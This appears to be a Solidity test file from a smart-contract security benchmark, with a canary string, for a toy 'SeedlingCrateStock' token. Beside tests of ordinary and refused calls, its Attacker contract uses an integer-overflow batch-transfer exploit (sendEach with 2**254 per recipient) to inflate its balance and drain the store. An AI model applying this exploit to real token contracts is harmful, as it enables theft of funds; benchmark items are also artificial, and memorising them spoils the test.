// SPDX-License-Identifier: MIT
pragma solidity 0.4.26;

import "./SeedlingCrateStock.sol";

// assay-canary-d03d44d6-5b7a-4642-9d87-b5257b642297

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert() external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    SeedlingCrateStock internal stock;
    Attacker internal gleaner;
    address internal constant JUNE = address(0x501E);
    address internal constant KARL = address(0xCA51);

    function () external payable {}

    function setUp() public {
        stock = new SeedlingCrateStock(1000, 1 finney);
        stock.dispatch(JUNE, 400);
        stock.dispatch(KARL, 100);
        vm.deal(JUNE, 1 ether);
        vm.deal(KARL, 1 ether);
        gleaner = new Attacker(stock);
        vm.deal(gleaner, 1 ether);
    }

    function test_Regular() public {
        address[] memory list = new address[](3);
        list[0] = KARL;
        list[1] = address(0x1001);
        list[2] = address(0x1002);
        vm.prank(JUNE);
        stock.sendEach(list, 50);
        require(stock.crates(JUNE) == 250 && stock.crates(KARL) == 150 && stock.crates(0x1002) == 50, "sent to each");
        vm.prank(JUNE);
        require(!address(stock).call(abi.encodeWithSelector(stock.sendEach.selector, list, 84)), "more than there is");

        vm.prank(JUNE);
        stock.lend(KARL, 20);
        vm.prank(KARL);
        stock.sendFrom(JUNE, KARL, 15);
        require(stock.lent(JUNE, KARL) == 5 && stock.crates(KARL) == 165, "carried");

        vm.prank(KARL);
        stock.fetch.value(165 finney)(165);
        require(stock.inStore() == 835 && stock.crates(KARL) == 0, "fetched");
        stock.bar(JUNE, true);
        vm.prank(JUNE);
        require(!address(stock).call(abi.encodeWithSelector(stock.dispatch.selector, KARL, 1)), "barred");
        stock.bring(65);
        require(stock.inStore() == 900 && stock.crates(this) == 565, "brought in");
        require(booksAgree(), "books");

        uint256 fees = address(stock).balance;
        uint256 till = address(this).balance;
        stock.collectFees();
        require(address(this).balance == till + fees && fees > 0, "fees");
        stock.setHandlingFee(2 finney);
        require(stock.handlingFee() == 2 finney, "dearer");
    }

    // Nobody is booked with more crates than the whole store has.
    function booksAgree() public view returns (bool) {
        uint all = stock.inStore();
        return stock.crates(gleaner) <= all && stock.crates(this) <= all && stock.crates(JUNE) <= all;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// The nursery's business, and growers who are barred.
    function test_RefusesGrowers() public {
        address[] memory list = new address[](1);
        list[0] = KARL;
        refuses(JUNE);
        stock.bring(1);
        refuses(JUNE);
        stock.setHandlingFee(0);
        refuses(JUNE);
        stock.bar(KARL, true);
        refuses(JUNE);
        stock.collectFees();
        vm.prank(JUNE);
        stock.lend(KARL, 20);
        vm.prank(KARL);
        stock.lend(JUNE, 20);
        stock.bar(JUNE, true);
        refuses(JUNE);
        stock.sendEach(list, 1);
        refuses(JUNE);
        stock.sendFrom(KARL, JUNE, 1);
        refuses(KARL);
        stock.sendFrom(JUNE, KARL, 1);
        refuses(JUNE);
        stock.fetch.value(1 finney)(1);
    }

    /// Crates that are not there, lists and fees that do not fit, and nobody.
    function test_RefusesCrates() public {
        refuses(KARL);
        stock.sendEach(new address[](0), 1);
        refuses(KARL);
        stock.sendEach(new address[](65), 1);
        refuses(KARL);
        stock.sendEach(new address[](1), 0);
        bytes memory more = abi.encodeWithSelector(stock.sendEach.selector, new address[](1), 101);
        uint256 gasBefore = gasleft();
        vm.prank(KARL);
        require(!address(stock).call.gas(500000)(more), "sent");
        require(gasBefore - gasleft() < 300000, "refused before anything is counted");
        more = abi.encodeWithSelector(stock.dispatch.selector, JUNE, 101);
        vm.prank(KARL);
        require(!address(stock).call.gas(500000)(more), "dispatched");
        refuses(KARL);
        stock.dispatch(address(0), 1);
        refuses(KARL);
        stock.fetch.value(2 finney)(1);
        more = abi.encodeWithSelector(stock.bring.selector, uint(-1));
        require(!address(stock).call.gas(500000)(more), "brought");
        stock.setHandlingFee(0);
        vm.prank(KARL);
        stock.fetch(1);
        require(stock.crates(KARL) == 99, "free of charge");
    }

    function exploit() public {
        gleaner.run();
    }

    function test_Exploit() public {
        exploit();
        require(!booksAgree(), "books agree");
        require(stock.inStore() == 0, "the store still has crates");
    }

    function target() public view returns (address) {
        return address(stock);
    }

    function attacker() public view returns (address) {
        return address(gleaner);
    }
}

// Owns no crate and fetches all of them.
contract Attacker {
    SeedlingCrateStock internal stock;

    constructor(SeedlingCrateStock _stock) public {
        stock = _stock;
    }

    function run() external {
        address[] memory list = new address[](4);
        list[0] = this;
        list[1] = address(0x2001);
        list[2] = address(0x2002);
        list[3] = address(0x2003);
        stock.sendEach(list, 2 ** 254);
        uint all = stock.inStore();
        stock.fetch.value(all * stock.handlingFee())(all);
    }
}
